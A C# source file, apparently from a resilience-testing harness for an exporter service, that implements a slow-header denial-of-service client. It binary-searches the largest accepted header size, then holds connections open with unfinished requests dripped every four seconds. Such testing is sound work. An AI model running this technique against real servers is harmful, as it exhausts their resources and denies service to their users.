// SPDX-License-Identifier: Apache-2.0
using EcsExporter.Attack.Wire;

namespace EcsExporter.Attack.Clients;

/// <summary>
/// Unfinished requests with as many bytes of headers as the exporter accepts. The attack first determines the limit with complete requests.
/// </summary>
internal sealed class LargestHeaders : HostileClient
{
    private const int Smallest = 1024;
    private const int Largest = 64 * 1024;
    private const int Precision = 512;
    private static readonly TimeSpan DripInterval = TimeSpan.FromSeconds(4);

    private ReadOnlyMemory<byte> _request;

    /// <inheritdoc/>
    public override async Task PrepareAsync(Target target, CancellationToken end)
    {
        var (taken, refused) = (Smallest, Largest);
        while (refused - taken > Precision)
        {
            var middle = (taken + refused) / 2;
            (taken, refused) = await IsTakenAsync(target, middle, end) ? (middle, refused) : (taken, middle);
        }

        _request = RequestText.WithFields(taken, isEnded: false);
    }

    /// <inheritdoc/>
    public override async Task AttackAsync(Target target, CancellationToken end)
    {
        await using var connection = await target.ConnectAsync(receiveBuffer: null, end);
        await connection.SendAsync(_request, end);
        await Drip.UntilClosedAsync(connection, DripInterval, end);
    }

    private static async Task<bool> IsTakenAsync(Target target, int bytes, CancellationToken end)
    {
        try
        {
            await using var connection = await target.ConnectAsync(receiveBuffer: null, end);
            await connection.SendAsync(RequestText.WithFields(bytes, isEnded: true), end);
            var answer = new byte[64];
            var length = await connection.ReceiveAsync(answer, end);
            return answer.AsSpan(0, length).StartsWith("HTTP/1.1 200 "u8);
        }
        catch (IOException)
        {
            return false;
        }
    }
}
